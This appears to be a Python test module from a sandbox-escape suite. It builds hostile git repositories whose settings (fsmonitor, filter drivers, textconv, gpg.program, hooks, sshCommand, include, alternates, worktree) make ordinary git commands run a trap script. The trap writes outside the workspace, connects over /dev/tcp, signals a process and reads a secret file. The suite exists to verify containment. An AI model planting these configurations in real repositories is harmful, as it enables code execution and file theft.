"""Hostile repositories: what a proven git command meets there makes git start programs, or read what is elsewhere.

The programs may run; they can change nothing in the workspace, nothing outside, and reach nobody.
"""

from textwrap import dedent

from tests.escape.case import Case

# Becomes the trap that git starts: it tries to write in the workspace and outside, to connect and to signal.
_TRAP = """
cat > .git/trap <<END
#!/bin/bash
echo ESCAPED > "$WORKSPACE/../repositories/marker"
echo ESCAPED > "$OUTSIDE/new.txt"
echo ESCAPED > /dev/tcp/127.0.0.1/$PORT
chmod 777 "$WORKSPACE/../repositories"
touch -d @1 "$OUTSIDE/canary.txt"
kill -USR1 $OUTSIDER
cat "$OUTSIDE/secret.txt" >&2
cat
END
chmod +x .git/trap; TRAP=$PWD/.git/trap
"""
_REPOSITORY = """
rm -rf here; mkdir here; cd here
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b
export HOME=/nonexistent GIT_CONFIG_NOSYSTEM=1
git init -q . ; echo one > file.txt; echo two > other.txt; git add . ; git commit -q -m first; echo three > file.txt
"""
_STALE = "touch -d '2001-01-01' file.txt other.txt"

# name: what it tries, how the repository is made hostile, the proven command that meets it, whether plain git falls
# for it
_TRAPS: dict[str, tuple[str, str, str, bool]] = {
    "fsmonitor": ("has `git status` ask a file monitor", 'git config core.fsmonitor "$TRAP"', "git status", True),
    "fsmonitor-diff": ("has `git diff` ask a file monitor", 'git config core.fsmonitor "$TRAP"', "git diff", True),
    "fsmonitor-ls-files": (
        "has `git ls-files -m` ask a file monitor",
        'git config core.fsmonitor "$TRAP"',
        "git ls-files -m",
        True,
    ),
    "clean-filter": (
        "has `git status` clean a file",
        """
        echo "* filter=f" > .gitattributes
        git config filter.f.clean "$TRAP"
        git config filter.f.smudge "$TRAP"
        """
        + _STALE,
        "git status",
        True,
    ),
    "clean-filter-diff": (
        "has `git diff` clean a file",
        'echo "* filter=f" > .gitattributes; git config filter.f.clean "$TRAP"',
        "git diff",
        True,
    ),
    "clean-filter-blame": (
        "has `git blame` clean a file",
        'echo "* filter=f" > .gitattributes; git config filter.f.clean "$TRAP"',
        "git blame file.txt",
        True,
    ),
    "process-filter": (
        "has `git diff` start a long filter",
        'echo "* filter=f" > .gitattributes; git config filter.f.process "$TRAP"',
        "git diff",
        True,
    ),
    "external-diff": ("has `git diff` compare by a program", 'git config diff.external "$TRAP"', "git diff", True),
    "diff-driver": (
        "has `git diff` compare by an attribute's program",
        'echo "* diff=d" > .gitattributes; git config diff.d.command "$TRAP"',
        "git diff",
        True,
    ),
    "textconv-diff": (
        "has `git diff` convert a file to text",
        'echo "* diff=d" > .gitattributes; git config diff.d.textconv "$TRAP"',
        "git diff",
        True,
    ),
    "textconv-log": (
        "has `git log -p` convert a file to text",
        'echo "* diff=d" > .gitattributes; git config diff.d.textconv "$TRAP"',
        "git log -p",
        True,
    ),
    "textconv-show": (
        "has `git show` convert a file to text",
        'echo "* diff=d" > .gitattributes; git config diff.d.textconv "$TRAP"',
        "git show",
        True,
    ),
    "textconv-blame": (
        "has `git blame` convert a file to text",
        'echo "* diff=d" > .gitattributes; git config diff.d.textconv "$TRAP"',
        "git blame file.txt",
        True,
    ),
    "pager": (
        "has `git log` show its lines by a program",
        'git config core.pager "$TRAP"; git config pager.log "$TRAP"',
        "git log",
        False,
    ),
    "editor": (
        "has git open an editor",
        'git config core.editor "$TRAP"; git config sequence.editor "$TRAP"',
        "git status",
        False,
    ),
    "signature": (
        "has `git log` check signatures by a program",
        r"""
        git config gpg.program "$TRAP"
        git config log.showSignature true
        git config gpg.format openpgp
        tree=$(git write-tree)
        printf "tree %s\nauthor a <a@b> 1 +0000\ncommitter a <a@b> 1 +0000\n" $tree > signed
        printf "gpgsig %sBEGIN PGP SIGNATURE%s\n \n x\n" ----- ----- >> signed
        printf " %sEND PGP SIGNATURE%s\n\nsigned\n" ----- ----- >> signed
        git update-ref HEAD $(git hash-object -t commit -w signed)
        """,
        "git log",
        True,
    ),
    "signature-show": (
        "has `git show` check signatures by a program",
        r"""
        git config gpg.program "$TRAP"
        git config log.showSignature true
        tree=$(git write-tree)
        printf "tree %s\nauthor a <a@b> 1 +0000\ncommitter a <a@b> 1 +0000\n" $tree > signed
        printf "gpgsig %sBEGIN PGP SIGNATURE%s\n \n x\n" ----- ----- >> signed
        printf " %sEND PGP SIGNATURE%s\n\nsigned\n" ----- ----- >> signed
        git update-ref HEAD $(git hash-object -t commit -w signed)
        """,
        "git show",
        True,
    ),
    "index-hook": (
        "has `git status` run a hook as it writes the index",
        """
        cp "$TRAP" .git/hooks/post-index-change
        sed -i "/^cat$/d" .git/hooks/post-index-change
        """
        + _STALE,
        "git status",
        True,
    ),
    "hooks-elsewhere": (
        "has hooks in a folder that the configuration names",
        """
        mkdir hooks
        cp "$TRAP" hooks/post-index-change
        sed -i "/^cat$/d" hooks/post-index-change
        git config core.hooksPath "$PWD/hooks"
        """
        + _STALE,
        "git status",
        True,
    ),
    "alias": (
        "gives a proven command's name to a program",
        'git config alias.status "!$TRAP"; git config alias.diff "!$TRAP"',
        "git status",
        False,
    ),
    "credential-helper": (
        "has git ask a program for a password",
        """
        git config credential.helper "$TRAP"
        git config remote.origin.url https://127.0.0.1:$PORT/x
        git config remote.origin.promisor true
        git config remote.origin.partialclonefilter blob:none
        rm -f .git/objects/$(git rev-parse HEAD:other.txt | sed "s,^..,&/,")
        """,
        "git log -p",
        False,
    ),
    "ssh-command": (
        "has git fetch what is missing by a program",
        """
        sed -i "/^cat$/d" .git/trap
        git config core.sshCommand "$TRAP"
        git config remote.origin.url ssh://nowhere/x
        git config extensions.partialClone origin
        git config core.repositoryFormatVersion 1
        git config remote.origin.promisor true
        git config remote.origin.partialclonefilter blob:none
        rm -f .git/objects/$(git rev-parse HEAD:other.txt | sed "s,^..,&/,")
        """,
        "git log -p",
        True,
    ),
    "upload-pack": (
        "has git fetch what is missing by a program of its own",
        """
        sed -i "/^cat$/d" .git/trap
        git config remote.origin.uploadpack "$TRAP"
        git config remote.origin.url "$OUTSIDE"
        git config extensions.partialClone origin
        git config core.repositoryFormatVersion 1
        git config remote.origin.promisor true
        rm -f .git/objects/$(git rev-parse HEAD:other.txt | sed "s,^..,&/,")
        """,
        "git log -p",
        True,
    ),
    "submodule": (
        "has `git status` look into a submodule with a trap",
        """
        git init -q sub
        cd sub
        echo a > a
        git add a
        git commit -q -m sub
        git config core.fsmonitor "$TRAP"
        echo b > a
        cd ..
        git add sub 2>/dev/null
        git commit -q -m with
        """,
        "git status",
        True,
    ),
    "bare-inside": (
        "hides a bare repository in a folder",
        """
        mkdir inner
        cd inner
        git init -q --bare .
        git config core.bare false
        git config core.worktree .
        git config core.fsmonitor "$TRAP"
        cd ..
        """,
        "git status",
        True,
    ),
    "attributes-file": (
        "names its attributes in another file",
        """
        echo "* filter=f" > .git/elsewhere
        git config core.attributesFile "$PWD/.git/elsewhere"
        git config filter.f.clean "$TRAP"
        """,
        "git diff",
        True,
    ),
    "include": (
        "includes configuration from outside",
        r"""
        printf "[core]\n\tfsmonitor = $TRAP\n" > "$WORKSPACE/../repositories/included"
        git config include.path "$WORKSPACE/../repositories/included"
        """,
        "git status",
        True,
    ),
    "include-secret": (
        "has git complain about the lines of a file outside",
        'git config include.path "$OUTSIDE/secret.txt"',
        "git status",
        False,
    ),
    "worktree-outside": (
        "has git look at files outside",
        'echo x > secret.txt; git add secret.txt; git config core.worktree "$OUTSIDE"',
        "git diff",
        True,
    ),
    "worktree-outside-status": (
        "has `git status` list what is outside",
        'git config core.worktree "$OUTSIDE"',
        "git status",
        True,
    ),
    "git-file": (
        "has .git be a file that names a repository outside",
        """
        cp "$OUTSIDE/secret.txt" told
        git add told
        git commit -q -m told
        rm told
        mv .git "$OUTSIDE/repository"
        echo "gitdir: $OUTSIDE/repository" > .git
        """,
        "git log -p",
        True,
    ),
    "alternates": (
        "borrows objects from outside",
        """
        mkdir -p "$OUTSIDE/objects"
        blob=$(git --git-dir=.git hash-object -w "$OUTSIDE/secret.txt")
        mkdir -p "$OUTSIDE/objects/${blob:0:2}"
        mv .git/objects/${blob:0:2}/${blob:2} "$OUTSIDE/objects/${blob:0:2}/"
        echo "$OUTSIDE/objects" > .git/objects/info/alternates
        git update-index --add --cacheinfo 100644,$blob,stolen
        git commit -q -m stolen
        """,
        "git log -p",
        True,
    ),
    "link-in-index": (
        "follows a link to a secret",
        """
        ln -s "$OUTSIDE/secret.txt" link
        git add link
        rm link
        ln -s "$OUTSIDE/secret.txt" link
        git config core.symlinks false
        git update-index --assume-unchanged other.txt
        """,
        "git diff",
        False,
    ),
    "excludes-file": (
        "ignores by a file outside",
        'git config core.excludesFile "$OUTSIDE/secret.txt"',
        "git status",
        False,
    ),
    "mailmap": (
        "reads names of authors from a file outside",
        'git config mailmap.file "$OUTSIDE/secret.txt"; git config log.mailmap true',
        "git log",
        False,
    ),
    "order-file": (
        "orders a difference by a file outside",
        'git config diff.orderFile "$OUTSIDE/secret.txt"',
        "git diff",
        False,
    ),
    "blame-ignore": (
        "has `git blame` complain about the lines of a file outside",
        'git config blame.ignoreRevsFile "$OUTSIDE/secret.txt"',
        "git blame file.txt",
        True,
    ),
    "pipe": (
        "has a filter write to a pipe in the workspace that somebody outside reads",
        """
        echo "echo ESCAPED > $PIPE_IN_WORKSPACE" >> .git/trap
        echo "* filter=f" > .gitattributes
        git config filter.f.clean "$TRAP"
        """,
        "git diff",
        True,
    ),
    "trace-file": (
        "has git write its trace outside",
        """
        git config trace2.eventTarget "$OUTSIDE/new.txt"
        git config trace2.normalTarget "$OUTSIDE/new2.txt"
        """,
        "git status",
        False,
    ),
}

CASES = [
    Case(
        id=f"repositories/{name}",
        family="repositories",
        tries=tries,
        program=f"{_REPOSITORY}\n{_TRAP}\n{dedent(lines)}",
        shell=True,
        command=command,
        cwd="here/inner" if name == "bare-inside" else "here",
        trust="proven",
        not_tried_at=(0,),  # what git can be told not to do differs from version to version
        real_for=("root", "ordinary") if real else (),
    )
    for name, (tries, lines, command, real) in _TRAPS.items()
]
